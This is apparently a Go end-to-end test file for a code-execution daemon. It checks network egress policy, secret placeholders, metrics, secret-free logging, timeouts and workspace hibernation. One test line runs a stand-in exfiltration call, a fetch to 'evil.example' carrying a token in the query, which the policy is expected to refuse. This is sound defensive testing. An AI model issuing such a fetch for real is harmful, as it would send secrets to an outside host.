package main

// The network end to end: the real binary, the real guests, loopback HTTP
// and HTTPS servers of the test's own, the policy from the TOML.

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"execd/internal/egress/egresstest"
	"execd/internal/mcptest"
)

const testSecret = "s3cr3t-daemon-token"

// startNetDaemon starts execd whose [network] allows both test servers
// by IP literal, with the servers' CA, a secret for the HTTPS one and
// extra (more [network] keys); it returns the daemon and its admin URL.
func startNetDaemon(t *testing.T, srv *egresstest.Servers, data, extra, workspaceTOML string) (*daemon, string) {
	t.Helper()
	secret := filepath.Join(t.TempDir(), "token")
	if err := os.WriteFile(secret, []byte(testSecret+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	toml := fmt.Sprintf(`[server]
listen = "127.0.0.1:0"
admin_listen = "127.0.0.1:0"
[network]
allow = ["http://%s", %q]
ca_file = %q
%s
[[network.secrets]]
name = "TOKEN"
value_file = %q
hosts = [%q]
[workspace]
data_dir = %q
%s
`, srv.HTTPHost(), srv.HTTPSHost(), srv.CAFile, extra, secret, srv.HTTPSHost(), data, workspaceTOML)
	return launch(t, toml, true)
}

func TestNetworkEndToEnd(t *testing.T) {
	srv := egresstest.Start(t)
	d, admin := startNetDaemon(t, srv, t.TempDir(), "", "")
	c := newMCP(t, d.url, true)
	https, plain := "https://"+srv.HTTPSHost(), "http://"+srv.HTTPHost()

	// The tool's description tells the model there is a network.
	if list := c.RPC("tools/list", nil, nil); !strings.Contains(fmt.Sprint(list), "Network: HTTP and HTTPS to the hosts the operator allows") {
		t.Errorf("execute_code's description does not mention the network: %.300v", list)
	}
	sc, isErr := c.run("net", `const r = await fetch("`+https+`/echo?q=1", {headers: {Authorization: "Bearer " + execd.env.TOKEN}});
const e = await r.json(); [r.status, e.headers.Authorization[0], execd.env.TOKEN]`)
	if isErr || sc["result"] != `[200, "Bearer __EXECD_SECRET_TOKEN__", "__EXECD_SECRET_TOKEN__"]` {
		t.Fatalf("fetch: %v", sc)
	}
	if got := srv.Authorizations(); len(got) != 1 || got[0] != "Bearer "+testSecret {
		t.Errorf("the server received %q", got)
	}
	net, _ := sc["network"].([]any)
	if len(net) != 1 || fmt.Sprint(net[0]) != fmt.Sprintf("map[host:%s requests:1]", srv.HTTPSHost()) {
		t.Errorf("result's network: %v", sc["network"])
	}
	sc, isErr = c.runLang("net", "python", `import requests
r = requests.post("`+plain+`/echo", json={"a": 1})
rs = [requests.get("`+https+`/text").status_code for _ in range(3)]
(r.json()["method"], rs)`)
	if isErr || sc["result"] != `('POST', [200, 200, 200])` {
		t.Fatalf("requests: %v", sc)
	}
	if got := fmt.Sprint(sc["network"]); got != fmt.Sprintf("[map[host:%s requests:1] map[host:%s requests:3]]", srv.HTTPHost(), srv.HTTPSHost()) {
		t.Errorf("result's network: %s", got)
	}
	// Refused: an exception in the code, the run itself an ordinary error result.
	sc, _ = c.run("net", `await fetch("https://evil.example/?token=x")`)
	if sc["status"] != "error" || !strings.Contains(fmt.Sprint(sc["error"]), "TypeError: fetch to evil.example is not allowed (network.allow)") || sc["network"] != nil {
		t.Errorf("refused: %v", sc)
	}
	sc, _ = c.run("net", `await fetch("`+plain+`/echo", {headers: {"X-T": execd.env.TOKEN}})`)
	if !strings.Contains(fmt.Sprint(sc["error"]), "carries secret TOKEN") {
		t.Errorf("the placeholder toward another host: %v", sc)
	}

	// /metrics counts by outcome and bytes; the status page lists the requests.
	_, metrics := get(t, admin+"/metrics")
	for _, want := range []string{`execd_egress_requests_total{outcome="allowed"} 5`, `execd_egress_requests_total{outcome="refused_policy"} 2`, `execd_egress_bytes_total{direction="in"}`} {
		if !strings.Contains(metrics, want) {
			t.Errorf("/metrics has no %s", want)
		}
	}
	_, status := get(t, admin+"/status.json")
	var doc struct {
		Network []struct {
			Principal, Workspace string
			Requests             []map[string]any
		}
	}
	if err := json.Unmarshal([]byte(status), &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Network) != 1 || doc.Network[0].Workspace != "net" || len(doc.Network[0].Requests) != 7 || doc.Network[0].Requests[0]["outcome"] != "refused_policy" {
		t.Errorf("status network: %s", status)
	}
	// A log line per request; never a secret, a path or a query.
	d.stop()
	logs := d.logs()
	if n := strings.Count(logs, "\tegress\t"); n != 7 {
		t.Errorf("%d egress log lines, want 7", n)
	}
	for _, bad := range []string{testSecret, "/echo", "q=1", "token=x"} {
		if strings.Contains(logs, bad) || strings.Contains(status, bad) {
			t.Errorf("the log or the status page holds %q", bad)
		}
	}
}

// TestNetworkTimeoutKeepsState: a slow endpoint with timeout_ms 1000 ends
// the run as a timeout, the request aborted; the next call sees the
// workspace's variables.
func TestNetworkTimeoutKeepsState(t *testing.T) {
	srv := egresstest.Start(t)
	d, _ := startNetDaemon(t, srv, t.TempDir(), "", "")
	c := newMCP(t, d.url, true)
	for _, lang := range []string{"javascript", "python"} {
		ws := "slow-" + lang
		set, slow := `var kept = "still here"; 1`, `await fetch("http://`+srv.HTTPHost()+`/slow?ms=120000")`
		if lang == "python" {
			set, slow = `import requests
kept = "still here"`, `requests.get("http://`+srv.HTTPHost()+`/slow?ms=120000")`
		}
		if sc, isErr := c.runLang(ws, lang, set); isErr {
			t.Fatalf("%s: %v", lang, sc)
		}
		sc, _, err := mcptest.Structured(c.RPC("tools/call", map[string]any{"name": "execute_code",
			"arguments": map[string]any{"code": slow, "language": lang, "workspace": ws, "timeout_ms": 1000}}, nil))
		if err != nil || sc["status"] != "timeout" || sc["reset"] == true {
			t.Fatalf("%s: %v %v", lang, sc, err)
		}
		ms, _ := sc["durationMs"].(float64)
		t.Logf("%s: timeout_ms 1000 during a slow response: the run took %.0f ms", lang, ms)
		if ms > 60000 {
			t.Errorf("%s: the run took %.0f ms: the request was not aborted", lang, ms)
		}
		if !srv.WaitIdle(10 * time.Second) {
			t.Errorf("%s: the request is still in flight", lang)
		}
		if sc, isErr := c.runLang(ws, lang, "kept"); isErr || !strings.Contains(fmt.Sprint(sc["result"]), "still here") {
			t.Errorf("%s: after the timeout: %v", lang, sc)
		}
	}
}

// TestNetworkAndHibernation: a workspace with a request in flight is not
// hibernated, while one idle for less time is; after the request it is, and
// it comes back with its variables.
func TestNetworkAndHibernation(t *testing.T) {
	srv := egresstest.Start(t)
	data := t.TempDir()
	d, admin := startNetDaemon(t, srv, data, "", `hibernate_after = "1s"`)
	c := newMCP(t, d.url, true)
	done := make(chan map[string]any, 1)
	go func() {
		sc, _ := newMCP(t, d.url, true).run("busy", `var got = await (await fetch("http://`+srv.HTTPHost()+`/held")).text(); got`)
		done <- sc
	}()
	waitFor(t, "the request of busy in flight", d.logs, func() bool { return srv.InFlight.Load() > 0 })
	// "idle" is last used after busy's call began: once the janitor has
	// hibernated it, busy has been in flight for longer than hibernate_after.
	if sc, isErr := c.run("idle", "var v = 1; v"); isErr {
		t.Fatalf("idle: %v", sc)
	}
	waitFor(t, "idle hibernated", d.logs, func() bool { return len(workspaceImages(data, "idle")) > 0 })
	if got := workspaceImages(data, "busy"); len(got) > 0 {
		t.Fatalf("a workspace was hibernated while its request was in flight: %v", got)
	}
	if _, status := get(t, admin+"/status.json"); !strings.Contains(status, `"id": "busy"`) || !strings.Contains(status, `"running": true`) {
		t.Errorf("/status.json while the request is in flight does not show busy running:\n%s", status)
	}
	srv.Release()
	if sc := <-done; sc["result"] != `"held"` {
		t.Fatalf("the held run: %v", sc)
	}
	waitFor(t, "busy hibernated after its run", d.logs, func() bool { return len(workspaceImages(data, "busy")) > 0 })
	sc, isErr := c.run("busy", `[got, (await fetch("https://`+srv.HTTPSHost()+`/text")).status]`)
	if isErr || sc["result"] != `["held", 200]` || sc["status"] != "ok" {
		t.Errorf("after hibernation: %v", sc)
	}
}

// TestNetworkConfigErrorsStopTheStart: a bad [network] fails at start
// with the key's name.
func TestNetworkConfigErrorsStopTheStart(t *testing.T) {
	for _, tc := range []struct{ toml, key string }{
		{"[network]\nallow = [\"example.com/path\"]\n", "network.allow"},
		{"[network]\nallow = []\n[[network.secrets]]\nname = \"X\"\nenv = \"EXECD_TEST_UNSET_VARIABLE\"\nhosts = [\"a.example\"]\n", "network.secrets[0] (X).env"},
		{"[network]\nca_file = \"/no/such/file.pem\"\n", "network.ca_file"},
		{"[network]\nmax_redirects = 9\n", "network.max_redirects"},
	} {
		cfg := filepath.Join(t.TempDir(), "execd.toml")
		if err := os.WriteFile(cfg, []byte("[workspace]\ndata_dir = \""+t.TempDir()+"\"\n"+tc.toml), 0o600); err != nil {
			t.Fatal(err)
		}
		out, err := exec.Command(binPath, "-config", cfg).CombinedOutput()
		if err == nil || !strings.Contains(string(out), tc.key) {
			t.Errorf("%q: %v\n%s", tc.toml, err, out)
		}
	}
}
